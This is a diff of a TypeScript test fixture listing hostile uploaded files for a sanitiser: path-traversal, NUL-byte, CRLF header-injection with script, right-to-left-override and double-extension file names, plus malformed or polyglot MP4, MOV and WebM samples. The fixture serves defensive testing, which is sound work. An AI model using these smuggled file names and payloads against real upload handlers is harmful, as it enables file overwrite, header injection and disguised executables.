-  },
-  {
-    ...pdfCv,
-    name: "name with a program's ending behind the right one",
-    category: "name",
-    fileName: "cv.pdf.exe",
-    bytes: () => cvPdf(),
-    expected: refused,
-    why: "Windows hides the last ending.",
-  },
-  {
-    ...pdfCv,
-    name: "name that ends in a space",
-    category: "name",
-    fileName: "cv.pdf ",
-    bytes: () => cvPdf(),
-    expected: harmless,
-    why: "Windows drops the space, checks of the ending do not.",
-    absent: ["pdf%20", 'pdf "'],
-  },
-];
+const names = inCategory(
+  "name",
+  [
+    {
+      name: "name that climbs out of its folder",
+      fileName: "../../../etc/cron.d/cv.pdf",
+      expected: harmless,
+      why: "Taken as a path it writes outside of its folder.",
+      absent: ["../", "..%2F", "cron.d"],
+    },
+    {
+      name: "name that is a Windows path",
+      fileName: "C:\\Windows\\System32\\cv.pdf",
+      expected: harmless,
+      why: "Old browsers send the whole path, which tells who the person is.",
+      absent: ["System32", "%5C"],
+    },
+    {
+      name: "name with a NUL",
+      fileName: "cv.exe\0.pdf",
+      expected: harmless,
+      why: "Programs in C read the name up to the NUL.",
+      absent: ["%00", "exe\0"],
+    },
+    {
+      name: "name with headers in it",
+      fileName: `cv.pdf\r\nSet-Cookie: session=${mark}\r\n\r\n<script>${script}</script>.pdf`,
+      expected: harmless,
+      why: "Written into a header it ends the header and begins a page.",
+      absent: ["\r\nSet-Cookie: session=", "%0D%0A", "<script"],
+    },
+    {
+      ...jpegPhoto,
+      name: "name that reads backwards, a program's",
+      fileName: "photo\u202Egpj.exe",
+      bytes: () => jpeg(),
+      expected: refused,
+      why: "Shown as photoexe.jpg, run as a program.",
+    },
+    {
+      name: "name that reads backwards, a document's",
+      fileName: "cv_\u202Excod.pdf",
+      expected: harmless,
+      why: "Shown as another type than it is of.",
+      absent: ["\u202E", "%E2%80%AE"],
+    },
+    {
+      name: "name of 5,000 characters",
+      fileName: `${"a".repeat(5_000)}.pdf`,
+      expected: harmless,
+      why: "Longer than any file system and many a header take.",
+      absent: ["a".repeat(300)],
+    },
+    {
+      name: "name of dots alone",
+      fileName: "....",
+      expected: harmless,
+      why: "Nothing is left of it, or the folder above.",
+      absent: ['filename=".', "UTF-8''."],
+    },
+    {
+      name: "name that Windows keeps for a device",
+      fileName: "CON.pdf",
+      expected: harmless,
+      why: "Windows can neither write nor delete a file of this name.",
+      absent: ['filename="con.pdf"', "UTF-8''CON.pdf"],
+    },
+    {
+      name: "name with half a character",
+      fileName: "cv\uD800.pdf",
+      expected: harmless,
+      why: "Encoding it for a header or for the database throws.",
+      absent: ["%ED%A0%80"],
+    },
+    {
+      name: "name with a program's ending behind the right one",
+      fileName: "cv.pdf.exe",
+      expected: refused,
+      why: "Windows hides the last ending.",
+    },
+    {
+      name: "name that ends in a space",
+      fileName: "cv.pdf ",
+      expected: harmless,
+      why: "Windows drops the space, checks of the ending do not.",
+      absent: ["pdf%20", 'pdf "'],
+    },
+  ].map((one) => ({ ...pdfCv, bytes: () => cvPdf(), ...one })),
+);
 
-const videos: HostileFile[] = [
+const videos = inCategory("video", [
   {
     ...mp4Video,
     name: "MP4 with a box larger than the file",
-    category: "video",
     bytes: () => {
       const whole = film();
       whole.set(big.u32(0x7fffffff), Buffer.from(whole).indexOf("moov") - 4);
@@ -1029,15 +917,13 @@ const videos: HostileFile[] = [
   {
     ...mp4Video,
     name: "MP4 that is HTML after its first box",
-    category: "video",
-    bytes: () => join(box("ftyp", "isom", big.u32(512), "isom"), html),
+    bytes: () => join(fileType("isom", 512), html),
     expected: refused,
     why: "The first twelve bytes satisfy who looks at these alone.",
   },
   {
     ...webmVideo,
     name: "WebM with a head larger than the file",
-    category: "video",
     bytes: () => webm({ headSize: join("\x01\x7f", new Uint8Array(6).fill(255)) }),
     expected: refused,
     why: "The first element says petabytes.",
@@ -1045,7 +931,6 @@ const videos: HostileFile[] = [
   {
     ...mp4Video,
     name: "MP4 whose pictures lie with a stranger",
-    category: "video",
     bytes: () => film({ reference: fullBox("url ", 0, `http://${stranger}/a.mp4\0`) }),
     expected: refused,
     why: "A player fetches them, and the stranger learns who looks.",
@@ -1053,7 +938,6 @@ const videos: HostileFile[] = [
   {
     ...movVideo,
     name: "MOV with a track of addresses",
-    category: "video",
     bytes: () =>
       film({
         brand: "qt  ",
@@ -1070,7 +954,6 @@ const videos: HostileFile[] = [
   {
     ...mp4Video,
     name: "MP4 with a ZIP behind it",
-    category: "video",
     bytes: () => join(film(), smallArchive()),
     expected: refused,
     why: "A video is kept as it is: the archive would go out with it.",
@@ -1078,13 +961,12 @@ const videos: HostileFile[] = [
   {
     ...mp4Video,
     name: "MP4 with a position",
-    category: "video",
     bytes: () => film({ inMovie: box("udta", box("\xa9xyz", big.u16(18), big.u16(0x15c7), "+48.8584+002.2945/")) }),
     expected: harmless,
     why: "Phones write where the film was taken; companies would learn where a candidate lives.",
     absent: ["+48.8584+002.2945"],
   },
-];
+]);
 
 export const tuning: HostileFile[] = [
   ...polyglots,
